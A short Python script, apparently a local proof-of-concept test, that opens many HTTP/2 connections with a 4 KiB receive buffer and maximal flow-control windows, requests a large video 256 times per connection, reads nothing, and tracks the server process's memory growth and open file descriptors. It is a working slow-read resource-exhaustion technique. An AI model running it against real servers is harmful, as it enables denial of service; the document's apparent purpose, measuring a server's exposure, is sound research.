# (2) C connections, each: SO_RCVBUF 4 KiB, SETTINGS INITIAL_WINDOW_SIZE=2^31-1, MAX_FRAME_SIZE=16M-1, conn WINDOW_UPDATE to 2^31-1,
# 256 x GET /videos/big.mp4, then read nothing; sample server RssAnon every 0.5 s
import sys, time, os; from h2c import *
C = int(sys.argv[1]); pid = int(sys.argv[2]); dur = float(sys.argv[3]) if len(sys.argv) > 3 else 30
def anon():
    for l in open("/proc/%d/status" % pid):
        if l.startswith("RssAnon"): return int(l.split()[1])
base = anon(); print("RssAnon before: %d kB" % base)
conns = []
for c in range(C):
    t = connect(rcvbuf=4096)
    t.sendall(PREFACE + settings(INITIAL_WINDOW_SIZE=2**31-1, MAX_FRAME_SIZE=2**24-1, ENABLE_PUSH=0) + frame(4, 1, 0)
              + window_update(0, 2**31-1-65535) + b"".join(get(1+2*i, "/videos/big.mp4") for i in range(256)))
    conns.append(t)
t0 = time.time(); peak = base; last = None
while time.time() - t0 < dur:
    a = anon(); peak = max(peak, a)
    fds = len(os.listdir("/proc/%d/fd" % pid))
    s = "%5.1f s RssAnon %d kB (+%d) fds %d" % (time.time()-t0, a, a-base, fds)
    if int((time.time()-t0)*2) % 4 == 0: print(s, flush=True)
    time.sleep(0.5)
print("peak growth: %d kB (%.1f MB)" % (peak-base, (peak-base)*1024/1e6))
# now see whether the server has closed: read what is pending, look for EOF
for i, t in enumerate(conns):
    t.settimeout(2); n = 0; st = "open"
    try:
        while True:
            d = t.recv(1 << 20)
            if not d: st = "EOF"; break
            n += len(d)
            if n > 200 << 20: break
    except Exception as e: st = "timeout/err %r" % type(e).__name__
    print("conn %d: read %d bytes then %s" % (i, n, st))
    t.close()
time.sleep(2); print("RssAnon after close: %d kB" % anon())
